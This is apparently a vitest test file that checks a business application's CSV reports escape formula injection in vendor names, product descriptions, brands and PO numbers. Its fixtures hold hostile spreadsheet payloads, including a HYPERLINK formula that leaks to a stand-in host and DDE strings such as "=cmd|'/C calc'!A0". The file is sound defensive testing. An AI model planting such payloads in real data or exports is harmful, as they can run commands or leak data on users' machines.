import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZJobSchema, type TApplyPaymentsResult } from '@keystone/contracts';
import { bearer, createTestApp, type TestApp } from './harness.js';
import { carrierFile } from '../src/modules/shipping-reconciliation/carrier-files.js';
import { readCsvRecords } from './csv-read.js';
import { invoiceUploadForm } from './samples/shipping-reconciliation.js';
import { waitForJob } from './report-kit.js';
import { createBrand, createLocation, createProducts, createSignedInUser, createUser, unique } from './factories.js';

/**
 * CSV formula injection (issue 30): text a user typed (a vendor's name, a product's description, a brand, the PO
 * number a gray box came in with) that starts with `=`, `+`, `-`, `@`, a tab or a CR is written with a `'` before
 * it by every CSV the server writes, so a spreadsheet shows it as text instead of running it; numbers, and text
 * that is a plain decimal number (money as "-12.50"), are written as they are. Each file is read back by papaparse.
 */
let t: TestApp;
let developer: string;

const get = (url: string, token = developer) => t.app.inject({ method: 'GET', url, headers: bearer(token) });

const HYPERLINK = '=HYPERLINK("http://x.example/?leak","click")';

beforeAll(async () => {
  t = await createTestApp({ jobsEnabled: false });
  developer = (await createSignedInUser(t, { role: 'developer' })).token;
  await createLocation(t.services, 'KY01');
});
afterAll(() => t?.close());

describe('CSV cells are neutralised', () => {
  it("a vendor's name in a report CSV comes back with a ' before it", async () => {
    const vendor = await t.services.vendors.create({ company_name: HYPERLINK, vendor_type: 'sales' } as never);
    const buyer = await createUser(t.services, { role: 'purchasing-admin' });
    const po = await t.services.purchaseOrders.create(
      {
        vendorId: vendor.id,
        location_code: 'KY01',
        purchaseOrderType: 'Default',
        shippingRequirements: 'Default',
      } as never,
      buyer.id,
    );
    const res = await get('/api/reports/generic/open-purchase-orders/csv');
    expect(res.statusCode, res.body).toBe(200);
    const row = readCsvRecords(res.body).find((r) => r.PO === po.purchase_ref_id);
    expect(row, res.body).toBeDefined();
    expect(row!.Vendor).toBe(`'${HYPERLINK}`);
  });

  it('product descriptions starting with + - @ tab or CR; money text and numbers stay as they are', async () => {
    const model = unique('INJ').toUpperCase();
    const descriptions = [
      '+SUM(1,2)',
      '-2+3+cmd|calc',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      'plain, with comma',
      '-12.50',
    ];
    await createProducts(
      t.db,
      descriptions.map((description, i) => ({
        modelNumber: `${model}-${i}`,
        description,
        currentCostCents: 0,
        mapCents: null,
      })),
    );
    const res = await get('/api/reports/generic/products-missing-cost/csv');
    expect(res.statusCode, res.body).toBe(200);
    const rows = readCsvRecords(res.body).filter((r) => r.Model!.startsWith(model));
    expect(rows.map((r) => r.Description)).toEqual([
      "'+SUM(1,2)",
      "'-2+3+cmd|calc",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      'plain, with comma',
      '-12.50',
    ]);
    expect(rows.map((r) => r['Current Cost'])).toEqual(descriptions.map(() => '0.00'));
  });

  it('a report written by a background job: a brand starting with @ is neutralised, a negative margin stays a number', async () => {
    const user = await createSignedInUser(t, { role: 'developer' });
    const model = unique('JOB').toUpperCase();
    const brand = await createBrand(t.db, '@SUM(1+1)*cmd', unique('B').slice(0, 10));
    // Cost 100.00 over a MAP of 80.00: the margin at MAP is -25 %.
    await createProducts(t.db, [{ modelNumber: model, brandId: brand, currentCostCents: 10_000, mapCents: 8_000 }]);
    const queued = await t.app.inject({
      method: 'POST',
      url: '/api/reports/generic/price-list/csv-jobs',
      headers: bearer(user.token),
      payload: { parameters: { model } },
    });
    expect(queued.statusCode, queued.body).toBe(202);
    const job = ZJobSchema.parse(queued.json());
    expect((await waitForJob(t, job.id)).status).toBe('succeeded');
    const file = await get(`/api/reports/csv-jobs/${job.id}/file`, user.token);
    expect(file.statusCode, file.body).toBe(200);
    const [row] = readCsvRecords(file.body);
    expect(row).toMatchObject({
      Model: model,
      Brand: "'@SUM(1+1)*cmd",
      Cost: '100.00',
      MAP: '80.00',
      'Margin at MAP': '-25',
    });
    expect(file.body).toBe((await get(`/api/reports/generic/price-list/csv?model=${model}`, user.token)).body);
  });

  it("the shipping payment batch's CSV: the PO number from the gray-box intake is neutralised, amounts stay numbers", async () => {
    const finance = (await createSignedInUser(t, { role: 'purchasing-1' })).token;
    const tracking = `1ZINJ${Date.now() % 1e10}`.padEnd(16, '0');
    const intake = await t.app.inject({
      method: 'POST',
      url: '/api/shipping-reconciliation/gray-boxes',
      headers: bearer(finance),
      payload: {
        grayBoxes: [
          {
            tracking_number: tracking,
            fulfillment_po_number: "=cmd|'/C calc'!A0",
            date_shipped: '2026-03-10',
            ship_company: 'UPS',
            fulfillment_warehouse: '@KY01',
            shipping_quote: 10,
          },
        ],
      },
    });
    expect(intake.statusCode, intake.body).toBe(200);
    const invoice = carrierFile('ups', [{ trackingNumber: tracking, cents: 1250, date: '2026-03-10' }]);
    const uploaded = await t.app.inject({
      method: 'POST',
      url: '/api/shipping-reconciliation/ups/upload',
      headers: bearer(finance),
      payload: invoiceUploadForm(invoice, 'inj.csv'),
    });
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    const generated = await get(
      `/api/shipping-reconciliation/ups/generate?filename=${encodeURIComponent(uploaded.json().filename)}`,
      finance,
    );
    expect(generated.statusCode, generated.body).toBe(200);
    const applied = await t.app.inject({
      method: 'PUT',
      url: '/api/shipping-reconciliation/update',
      headers: bearer(finance),
      payload: {
        idempotencyKey: unique('inj-batch'),
        updates: { [tracking]: { reported_billed_charge: 12.5, payment_to_apply: 12.5 } },
      },
    });
    expect(applied.statusCode, applied.body).toBe(200);
    const { batchId } = applied.json() as TApplyPaymentsResult;
    const csv = await get(`/api/shipping-reconciliation/updates/${batchId}?format=csv`, finance);
    expect(csv.statusCode, csv.body).toBe(200);
    const [row] = readCsvRecords(csv.body);
    expect(row).toMatchObject({
      batch_id: String(batchId),
      tracking_number: tracking,
      fulfillment_po_number: "'=cmd|'/C calc'!A0",
      fulfillment_warehouse: "'@KY01",
      shipping_quote: '10.00',
      reported_billed_charge: '12.50',
      payment_to_apply: '12.50',
    });
  });
});
